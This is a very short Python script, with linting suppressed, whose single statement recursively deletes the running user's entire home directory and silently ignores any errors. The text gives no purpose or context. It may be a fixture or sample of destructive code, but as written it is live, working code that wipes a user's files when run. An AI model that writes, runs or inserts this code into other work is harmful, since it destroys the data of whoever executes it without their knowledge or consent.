# ruff: noqa
import os
import shutil

shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
